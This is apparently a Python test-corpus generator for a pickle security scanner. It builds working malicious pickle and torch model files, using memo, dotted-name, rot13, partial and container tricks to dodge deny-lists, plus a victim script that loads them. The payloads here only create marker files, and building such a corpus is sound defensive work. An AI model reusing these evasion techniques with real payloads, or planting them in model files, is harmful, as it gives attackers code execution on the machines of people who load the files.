"""The security corpus: real pickles whose payload really runs when unpickled (each sample
written the way an attacker would), and the benign look-alikes, for the SEC tests and
benchmarks/pickle_bench.py."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PROTO = b"\x80"


@dataclass
class Sample:
    name: str
    path: Path
    marker: Path
    expect: str  # the global the scanner must name, or "<unresolved>"
    victim: str  # pickle | pickle-all | torch | zip-entry:<name> | none


# ---- opcode assembly ------------------------------------------------------------------------
def s(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def u(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def exec_reduce(marker: Path, proto: int) -> bytes:
    """What pickle.dumps writes for an object whose __reduce__ returns (exec, (code,))."""

    class Evil:
        def __reduce__(self):  # noqa: D105
            return (exec, (code(marker),))

    return pickle.dumps(Evil(), protocol=proto)


def memo_stack_global(marker: Path) -> bytes:
    """STACK_GLOBAL whose operands come back from the memo after being popped."""
    return (PROTO + b"\x04" + s("builtins") + b"\x94" + s("exec") + b"\x94" + b"00"
            + b"h\x00h\x01" + b"\x93" + s(code(marker)) + b"\x85R.")


def dotted_stack_global(marker: Path) -> bytes:
    """Protocol 4 resolves dotted names by getattr: codecs.builtins.exec is exec."""
    return PROTO + b"\x04" + s("codecs") + s("builtins.exec") + b"\x93" + s(code(marker)) + b"\x85R."


def computed_stack_global(marker: Path) -> bytes:
    """Module and name computed by _codecs.encode (allowed by torch!) with rot13 at load time."""
    rot = lambda t: t.translate(str.maketrans(  # noqa: E731
        "abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
    enc = glob("_codecs", "encode")
    return (PROTO + b"\x04" + enc + s(rot("builtins")) + s("rot13") + b"\x86R"
            + enc + s(rot("exec")) + s("rot13") + b"\x86R" + b"\x93" + s(code(marker)) + b"\x85R.")


def inst(marker: Path) -> bytes:
    return b"(" + b"V" + code(marker).encode("raw-unicode-escape") + b"\n" + b"ibuiltins\nexec\n."


def obj(marker: Path) -> bytes:
    return b"(" + glob("builtins", "exec") + u(code(marker)) + b"o."


def newobj_partial(marker: Path) -> bytes:
    """NEWOBJ builds functools.partial(exec, code) without calling anything; REDUCE calls it."""
    return (PROTO + b"\x02" + glob("functools", "partial") + glob("builtins", "exec") + u(code(marker))
            + b"\x86\x81" + b")R.")


def partial_reduce(marker: Path) -> bytes:
    return PROTO + b"\x02" + glob("functools", "partial") + glob("builtins", "exec") + u(code(marker)) + b"\x86R)R."


def resolve_name(marker: Path) -> bytes:
    return PROTO + b"\x02" + glob("pkgutil", "resolve_name") + u("builtins:exec") + b"\x85R" + u(code(marker)) + b"\x85R."


def attrgetter(marker: Path) -> bytes:
    return (PROTO + b"\x02" + glob("operator", "attrgetter") + u("exec") + b"\x85R"
            + glob("codecs", "builtins") + b"\x85R" + u(code(marker)) + b"\x85R.")


def import_vars_dictget(marker: Path) -> bytes:
    """builtins.__import__, vars and dict.get (dotted, protocol 4): none on a typical deny-list."""
    return (PROTO + b"\x04" + s("builtins") + s("dict.get") + b"\x93"
            + s("builtins") + s("vars") + b"\x93"
            + s("builtins") + s("__import__") + b"\x93" + s("builtins") + b"\x85R" + b"\x85R"
            + s("exec") + b"\x86R" + s(code(marker)) + b"\x85R.")


def benign_then_evil(marker: Path) -> bytes:
    return pickle.dumps({"weights": [1, 2, 3]}, protocol=2) + exec_reduce(marker, 2)


# ---- containers -----------------------------------------------------------------------------
def torch_zip(path: Path, evil_pkl: bytes, *, folder: str = "archive", compress: int = zipfile.ZIP_STORED,
              comment: bytes = b"", descriptor: bool = False, extra: dict[str, bytes] | None = None,
              data_pkl_duplicate: bytes | None = None) -> Path:
    """A torch-style zip whose data.pkl is ``evil_pkl`` (torch.load unpickles it)."""
    entries = [(f"{folder}/data.pkl", evil_pkl), (f"{folder}/byteorder", b"little"), (f"{folder}/version", b"3\n")]
    entries += list((extra or {}).items())
    if data_pkl_duplicate is not None:
        entries.insert(0, (f"{folder}/data.pkl", data_pkl_duplicate))
    buf = io.BytesIO()
    target: io.RawIOBase = _Unseekable(buf) if descriptor else buf  # type: ignore[assignment]
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one sample
        with zipfile.ZipFile(target, "w", compression=compress) as z:
            z.comment = comment
            for name, data in entries:
                z.writestr(name, data)
    path.write_bytes(buf.getvalue())
    return path


class _Unseekable(io.RawIOBase):
    """zipfile writes data descriptors (flag bit 3) when it cannot seek back."""

    def __init__(self, buf: io.BytesIO) -> None:
        self.buf = buf

    def writable(self) -> bool:
        return True

    def write(self, b) -> int:  # type: ignore[override]
        return self.buf.write(b)

    def flush(self) -> None:
        pass


def legacy_with_evil_sysinfo(path: Path, marker: Path) -> Path:
    """torch's legacy format with the payload in pickle #3 (sys info), the rest benign."""
    import torch

    tmp = io.BytesIO()
    torch.save({"w": torch.ones(2, 3)}, tmp, _use_new_zipfile_serialization=False)
    data = tmp.getvalue()
    bounds = _pickle_bounds(data, 3)
    evil = exec_reduce(marker, 2)
    path.write_bytes(data[: bounds[2][0]] + evil + data[bounds[2][1]:])
    return path


def _pickle_bounds(data: bytes, n: int) -> list[tuple[int, int]]:
    import pickletools

    f = io.BytesIO(data)
    out = []
    for _ in range(n):
        start = f.tell()
        for op, _arg, _pos in pickletools.genops(f):
            if op.name == "STOP":
                break
        out.append((start, f.tell()))
    return out


def old_tar(path: Path, marker: Path) -> Path:
    """torch's pre-0.4 tar format with the payload in the 'storages' member's first pickle."""
    import tarfile

    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "pickle": pickle.dumps({"w": "0"}, protocol=2),
        "storages": exec_reduce(marker, 2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    with tarfile.open(path, "w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def build_corpus(root: Path) -> list[Sample]:
    """Every malicious sample, written under ``root``; markers live in ``root/markers``."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "markers").mkdir(exist_ok=True)
    samples: list[Sample] = []

    def add(name: str, expect: str, victim: str, make: Callable[[Path, Path], Path], filename: str = "") -> None:
        marker = root / "markers" / name
        path = make(root / (filename or f"{name}.bin"), marker)
        samples.append(Sample(name, path, marker, expect, victim))

    for proto in (0, 2, 4):
        add(f"reduce-proto{proto}", "builtins.exec", "pickle", lambda p, m, proto=proto: write(p, exec_reduce(m, proto)))
    add("memo-stack-global", "builtins.exec", "pickle", lambda p, m: write(p, memo_stack_global(m)))
    add("dotted-stack-global", "codecs.builtins.exec", "pickle", lambda p, m: write(p, dotted_stack_global(m)))
    add("computed-stack-global", "<unresolved>", "pickle", lambda p, m: write(p, computed_stack_global(m)))
    add("inst", "builtins.exec", "pickle", lambda p, m: write(p, inst(m)))
    add("obj", "builtins.exec", "pickle", lambda p, m: write(p, obj(m)))
    add("newobj-partial", "functools.partial", "pickle", lambda p, m: write(p, newobj_partial(m)))
    add("functools-partial", "functools.partial", "pickle", lambda p, m: write(p, partial_reduce(m)))
    add("pkgutil-resolve-name", "pkgutil.resolve_name", "pickle", lambda p, m: write(p, resolve_name(m)))
    add("operator-attrgetter", "operator.attrgetter", "pickle", lambda p, m: write(p, attrgetter(m)))
    add("import-vars-dictget", "builtins.__import__", "pickle", lambda p, m: write(p, import_vars_dictget(m)))
    add("truncated-no-stop", "builtins.exec", "pickle", lambda p, m: write(p, exec_reduce(m, 2)[:-1]))
    add("concatenated", "builtins.exec", "pickle-all", lambda p, m: write(p, benign_then_evil(m)))
    add("legacy-sysinfo", "builtins.exec", "torch", legacy_with_evil_sysinfo)
    add("zip-stored", "builtins.exec", "torch", lambda p, m: torch_zip(p, exec_reduce(m, 2)))
    add("zip-deflated", "builtins.exec", "torch",
        lambda p, m: torch_zip(p, exec_reduce(m, 2), compress=zipfile.ZIP_DEFLATED))
    add("zip-descriptor", "builtins.exec", "torch",
        lambda p, m: torch_zip(p, exec_reduce(m, 2), compress=zipfile.ZIP_DEFLATED, descriptor=True))
    add("zip-comment", "builtins.exec", "torch",
        lambda p, m: torch_zip(p, exec_reduce(m, 2), comment=b"harmless weights, promise"))
    add("zip-folder-name", "builtins.exec", "torch", lambda p, m: torch_zip(p, exec_reduce(m, 2), folder="x9"))
    add("zip-second-pkl", "builtins.exec", "zip-entry:archive/constants.pkl",
        lambda p, m: torch_zip(p, pickle.dumps({}, protocol=2), extra={"archive/constants.pkl": exec_reduce(m, 2)}))
    add("zip-duplicate-entry", "builtins.exec", "torch",
        lambda p, m: torch_zip(p, pickle.dumps({}, protocol=2), data_pkl_duplicate=exec_reduce(m, 2)))
    add("zip-prefix-polyglot", "builtins.exec", "torch",
        lambda p, m: write(p, exec_reduce(m, 2) + torch_zip(p, pickle.dumps({}, protocol=2)).read_bytes()))
    add("old-tar", "builtins.exec", "torch", old_tar)
    add("safetensors-extension", "builtins.exec", "pickle", lambda p, m: write(p, exec_reduce(m, 2)),
        filename="model.safetensors")
    return samples


def not_what_it_says(root: Path) -> dict[str, tuple[Path, str]]:
    """Benign .bin files that are really something else: name -> (path, expected format)."""
    import numpy as np
    from safetensors.numpy import save_file

    root.mkdir(parents=True, exist_ok=True)
    out: dict[str, tuple[Path, str]] = {}
    save_file({"w": np.zeros((2, 2), dtype=np.float32)}, str(root / "st.bin"))
    out["safetensors"] = (root / "st.bin", "safetensors")
    with zipfile.ZipFile(root / "zip.bin", "w") as z:
        z.writestr("readme.txt", "hello")
    out["zip"] = (root / "zip.bin", "zip")
    out["text"] = (write(root / "text.bin", b"just some notes\n"), "text")
    out["html"] = (write(root / "html.bin", b"<!DOCTYPE html><html><body>404</body></html>"), "html")
    out["lfs"] = (write(root / "lfs.bin", b"version https://git-lfs.github.com/spec/v1\noid sha256:"
                        + b"0" * 64 + b"\nsize 123\n"), "lfs-pointer")
    out["json"] = (write(root / "json.bin", json.dumps({"a": 1}).encode()), "json")
    out["empty"] = (write(root / "empty.bin", b""), "empty")
    return out


# ---- proof that the corpus is real ----------------------------------------------------------
_VICTIM = r"""
import pickle, sys, zipfile, json
done = []
for path, victim in json.loads(sys.argv[1]):
    try:
        if victim == "pickle":
            pickle.load(open(path, "rb"))
        elif victim == "pickle-all":
            with open(path, "rb") as f:
                while True:
                    pickle.load(f)
        elif victim == "torch":
            import torch
            torch.load(path, weights_only=False)
        elif victim.startswith("zip-entry:"):
            pickle.loads(zipfile.ZipFile(path).read(victim.split(":", 1)[1]))
    except Exception:
        pass
"""

